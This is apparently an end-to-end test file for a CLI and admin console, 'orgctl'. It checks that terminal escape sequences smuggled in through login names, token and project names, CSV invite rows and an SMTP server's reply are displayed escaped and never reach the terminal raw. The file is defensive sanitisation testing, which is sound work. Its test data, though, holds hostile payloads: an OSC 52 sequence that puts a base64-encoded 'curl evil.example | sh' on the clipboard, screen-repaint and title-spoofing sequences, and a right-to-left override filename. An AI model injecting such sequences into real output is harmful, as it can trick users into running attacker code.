import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {sendInvitation} from '../../source/core/invitations.js';
import {createProject} from '../../source/core/projects.js';
import {orgctl, type CliResult} from '../helpers/cli.js';
import {expectInert} from '../helpers/inert.js';
import {inert} from '../../source/core/inert.js';
import {addUser, useLoopbackSmtp} from '../helpers/people.js';
import {TestSmtpServer} from '../helpers/smtp.js';
import {TEST_HASHER, tempDir} from '../helpers/store.js';
import {seedRoot, signIn, spawnConsole, type ConsoleTerm} from '../helpers/term.js';

// The reproductions, end to end: hostile text goes in through the command line (or an SMTP
// server's reply), and the admin's console (in a real PTY) and `orgctl audit` must not pass its
// escape sequences on. The assertions read the raw bytes the PTY received, not the screen.

const ESC = '\u001b';
const BEL = '\u0007';
/** The reported login: OSC 52 asks the terminal to put `curl evil.example | sh` on the clipboard. */
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}`;
const HOSTILE_LOGIN = `m2${CLIPBOARD}`;
/** A window title and a repaint with a colour, each with a word no orgctl text has. */
const TITLE = `${ESC}]0;TOK${BEL}`;
const REPAINT = `${ESC}[2J${ESC}[31mHOSTILE`;
/** The raw bytes of the payloads that must never reach the terminal. */
const PAYLOADS = [`${ESC}]52;`, `Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}`, `${ESC}]0;TOK`, `TOK${BEL}`, `${ESC}[31mHOSTILE`];

const running: ConsoleTerm[] = [];
let server: TestSmtpServer | undefined;
afterEach(async () => {
	for (const t of running.splice(0)) {
		t.kill('SIGKILL');
		await t.exited;
	}
	await server?.stop();
	server = undefined;
});

function start(dir: string, options: {args?: readonly string[]; cols?: number} = {}): ConsoleTerm {
	const t = spawnConsole({dir, ...options, env: {TMUX: undefined, DISPLAY: undefined, WAYLAND_DISPLAY: undefined}});
	running.push(t);
	return t;
}

const MEMBER_PASSWORD = 'a long member password';

/** A store with root (signed in, for the console and `orgctl audit`), member mia with a password and her project p. */
async function store() {
	const dir = tempDir();
	const {ctx, root} = await seedRoot(dir);
	await addUser(ctx, root.tenant.id, 'mia', {passwordHash: await TEST_HASHER.hash(MEMBER_PASSWORD)});
	await createProject(ctx, root, {name: 'p', owner: 'mia'});
	await signIn(ctx, root, dir);
	return {dir, ctx, root};
}

const asMia = {env: {ORGCTL_USER: 'mia', ORGCTL_PASSWORD: MEMBER_PASSWORD}};

/** What a command without a terminal wrote: nothing that acts on one, in either stream. */
function expectInertCli(result: CliResult): void {
	expectInert(result.stdout, PAYLOADS);
	expectInert(result.stderr, PAYLOADS);
}

/** Opens the console's Audit section and waits for `shown` (the escaped form of a payload) on screen. */
async function auditShows(dir: string, shown: string): Promise<ConsoleTerm> {
	// Wide enough for the audit's target column to show a whole payload.
	const t = start(dir, {cols: 180});
	await t.waitReady('main:users');
	// A superuser's sections: Server Settings, Tenants and Single Sign-On come before Audit.
	await t.press('8');
	await t.waitReady('main:audit');
	await t.waitFor(shown);
	return t;
}

/** `orgctl audit` on a terminal (80 columns unless told): its raw bytes, and its lines as they were written. */
async function auditInTerminal(dir: string, cols = 80): Promise<{raw: string; lines: string[]}> {
	const t = start(dir, {args: ['audit'], cols});
	const exit = await t.exited;
	expect(exit.exitCode).toBe(0);
	const raw = t.output();
	return {raw, lines: raw.split('\r\n').filter(line => line !== '')};
}

describe('hostile text from elsewhere reaches no terminal raw', () => {
	it('the reported login: the console’s Audit section and orgctl audit show the OSC 52 escaped, never raw', async () => {
		const {dir} = await store();
		const login = await orgctl(dir, ['login', '--username', HOSTILE_LOGIN, '--password-stdin'], {input: 'x'});
		expect(login.code).toBe(1);
		expectInertCli(login);

		const t = await auditShows(dir, 'm2\\e]52;c;Y3Vy');
		expect(t.screen()).toMatch(/anonymous\s+login\s+refused\s+m2\\e\]52;c;Y3Vy/);
		expectInert(t.output(), PAYLOADS);

		const audit = await auditInTerminal(dir);
		expectInert(audit.raw, PAYLOADS);
		expect(audit.raw).toContain('m2\\e]52;c;');
		// Each line fits the 80 columns of the terminal; the reason gave way first, the time and result are whole.
		for (const line of audit.lines) expect([...line].length, line).toBeLessThanOrEqual(80);
		expect(audit.lines[1]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ\s+anonymous\s+login\s+m2\\e\]52;c;\S*\s+refused\s+Wrong/);
		const wide = await auditInTerminal(dir, 200);
		expectInert(wide.raw, PAYLOADS);
		expect(wide.raw).toContain('m2\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07');
	});

	it('a member’s token name with a title sequence is refused at the door, and its refusal is shown escaped', async () => {
		const {dir} = await store();
		const created = await orgctl(dir, ['tokens', 'create', `t${TITLE}`, '--project', 'p'], asMia);
		expect(created.code).toBe(1);
		expect(created.stderr).toBe('orgctl: "t\\e]0;TOK\\x07" is not a valid token name: use 1 to 100 letters, digits, spaces and punctuation, with no control or invisible characters.\n');
		expectInertCli(created);

		const t = await auditShows(dir, 't\\e]0;TOK\\x07 (p)');
		expectInert(t.output(), PAYLOADS);
		const audit = await auditInTerminal(dir, 200);
		expectInert(audit.raw, PAYLOADS);
		expect(audit.raw).toContain('t\\e]0;TOK\\x07');
	});

	it('a refused project name and a bulk-invite CSV line are shown escaped by the command line, the console and orgctl audit', async () => {
		const {dir} = await store();
		const project = await orgctl(dir, ['projects', 'create', `p${REPAINT}`], asMia);
		expect(project.code).toBe(1);
		expect(project.stderr).toContain('orgctl: "p\\e[2J\\e[31mHOSTILE" is not a valid project name');
		expectInertCli(project);

		const csv = join(dir, 'people.csv');
		// csv-parse splits fields at semicolons too, so these payloads carry none.
		writeFileSync(csv, `ann,ann@example.com\nm2${REPAINT}${BEL},m2@example.com\nbo,bo@example.com${ESC}[31mHOSTILE\n`);
		const bulk = await orgctl(dir, ['invites', 'create', '--file', csv, '--no-email']);
		expect(bulk.code).toBe(1);
		expectInertCli(bulk);
		expect(bulk.stdout).toMatch(/^2\s+m2\\e\[2J\\e\[31mHOSTILE\\x07\s+m2@example.com\s+refused: "m2\\e\[2J\\e\[31mHOSTILE\\x07" is not a valid username/m);
		expect(bulk.stdout).toMatch(/^3\s+bo\s+bo@example.com\\e\[31mHOSTILE\s+refused: "bo@example.com\\e\[31mHOSTILE" is not an e-mail address we accept/m);

		// The same bulk invitation on a terminal: the table is inert there too.
		const t = start(dir, {args: ['invites', 'create', '--file', csv, '--no-email']});
		await t.exited;
		expectInert(t.output(), PAYLOADS);
		expect(t.output()).toContain('refused: "m2\\e[2J\\e[31mHOSTILE\\x07"');

		const console = await auditShows(dir, 'p\\e[2J\\e[31mHOSTILE');
		await console.waitFor('bo <bo@example.com\\e[31mHOSTILE>');
		expectInert(console.output(), PAYLOADS);
		const audit = await auditInTerminal(dir, 200);
		expectInert(audit.raw, PAYLOADS);
		expect(audit.raw).toContain('p\\e[2J\\e[31mHOSTILE');
	});

	it('an SMTP server’s 550 carrying escape sequences is stored as the mail status and shown escaped by invites list and the invitation’s detail', async () => {
		const {dir, ctx, root} = await store();
		server = await new TestSmtpServer().start();
		server.mode = 'reject5xx';
		// smtp-server cleans the replies it sends; a hostile server does not: the bytes go out raw.
		server.reason5xx = 'No such user HOSTILE-BYTES';
		server.rawReplies = [['HOSTILE-BYTES', `${CLIPBOARD} ${REPAINT} txt.\u202eexe`]];
		await useLoopbackSmtp(ctx, root, server.port);
		const sent = await sendInvitation(ctx, root, {username: 'carol', email: 'carol@example.com'});
		// The mail adapter makes the reply inert where it comes in (and every printer again, idempotently).
		expect(sent.mail).toMatchObject({state: 'failed', reason: expect.stringContaining(`No such user ${inert(CLIPBOARD)} ${inert(REPAINT)}`)});

		const list = await orgctl(dir, ['invites', 'list']);
		expect(list.code).toBe(0);
		expectInertCli(list);
		// The reply itself is past the MAIL column's cut here; the 200-column console below shows it whole.
		expect(list.stdout).toContain('failed: the SMTP server refused the recipient carol@example.com');

		const listed = start(dir, {args: ['invites', 'list'], cols: 200});
		await listed.exited;
		expectInert(listed.output(), PAYLOADS);
		expect(listed.output()).toContain('failed: the SMTP server refused the recipient carol@example.com: 550 No such us');

		const t = start(dir);
		await t.waitReady('main:users');
		await t.press('2');
		await t.waitReady('main:invitations');
		await t.waitFor(/›carol\s.*FAILED/);
		await t.press('enter');
		await t.waitFor('Invitation for carol');
		// The detail wraps the whole reason over its lines, every escape visible: read it unwrapped
		// (where a line breaks is the layout's business, so spaces are left out of the comparison).
		const detail = () => t.lines().map(line => line.slice(line.indexOf('│') + 1)).join('').replace(/\s+/g, '');
		await t.waitFor(() => detail().includes('550Nosuchuser'));
		expect(detail()).toContain('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07');
		expect(detail()).toContain('\\e[2J\\e[31mHOSTILEtxt.\\u202eexe');
		expectInert(t.output(), PAYLOADS);
	});
});
